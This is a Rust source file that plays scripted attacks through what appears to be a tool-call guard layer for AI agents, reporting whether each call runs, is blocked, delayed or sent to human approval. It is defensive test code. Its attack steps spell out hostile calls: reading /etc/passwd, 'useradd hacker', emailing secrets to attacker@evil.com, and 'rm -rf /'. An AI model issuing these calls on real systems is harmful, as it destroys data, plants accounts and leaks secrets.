//! The attacks of the proposal, played through the layer.

use std::fmt::{self, Write as _};

use serde_json::{Value, json};

use crate::{
    desk::Desk,
    server::{Outcome, Server},
};

/// A step of an attack.
#[derive(Clone, Debug)]
enum Step {
    /// A call with one argument, or none.
    Call(&'static str, Option<(&'static str, &'static str)>),
    /// A person approves what waits.
    Approval,
}

/// An attack: its title, who carries it out, and the steps. Each attacker has a session.
type Attack = (&'static str, &'static str, &'static [Step]);

const ATTACKS: [Attack; 3] = [
    (
        "Config-based privilege escalation",
        "eve",
        &[
            Step::Call("list_files", Some(("directory", "/etc"))),
            Step::Call("read_file", Some(("path", "/etc/passwd"))),
            Step::Approval,
            Step::Call("read_file", Some(("path", "/etc/passwd"))),
            Step::Call("execute_command", Some(("command", "useradd hacker"))),
        ],
    ),
    (
        "Data exfiltration chain",
        "mallory",
        &[
            Step::Call("list_files", Some(("directory", "/sensitive"))),
            Step::Call("read_file", Some(("path", "/sensitive/secrets.json"))),
            Step::Call("send_email", Some(("to", "attacker@evil.com"))),
        ],
    ),
    (
        "Reconnaissance then attack",
        "trudy",
        &[
            Step::Call("health_check", None),
            Step::Call("list_files", Some(("directory", "/"))),
            Step::Call("execute_command", Some(("command", "rm -rf /"))),
        ],
    ),
];

/// Plays all attacks, and returns what happened.
///
/// # Errors
/// The server cannot be built, or a call has an unexpected answer.
pub async fn play() -> Result<String, Box<dyn std::error::Error + Send + Sync>> {
    let desk = Desk::default();
    let server = Server::build(desk.clone()).await?;
    let mut report = String::new();
    for (number, (title, attacker, steps)) in (1..).zip(ATTACKS) {
        writeln!(report, "{number}. {title}")?;
        for step in steps {
            match step {
                Step::Approval => writeln!(report, "   (a person approves {} call)", desk.approve_all())?,
                Step::Call(tool, argument) => {
                    let arguments = argument.map_or_else(|| json!({}), |(name, value)| json!({name: value}));
                    let outcome = server.call(attacker, tool, &arguments).await?;
                    writeln!(report, "   {:<45} {outcome}", shown(tool, &arguments))?;
                }
            }
        }
        report.push('\n');
    }
    Ok(report)
}

fn shown(tool: &str, arguments: &Value) -> String {
    let values = arguments.as_object().into_iter().flat_map(|members| members.values());
    format!("{tool}({})", values.map(ToString::to_string).collect::<Vec<_>>().join(", "))
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Runs => f.write_str("runs"),
            Self::Blocked(why) => write!(f, "BLOCKED: {why}"),
            Self::Delayed(why) => write!(f, "DELAYED: {why}"),
            Self::SentToApproval(why) => write!(f, "SENT TO APPROVAL: {why}"),
        }
    }
}
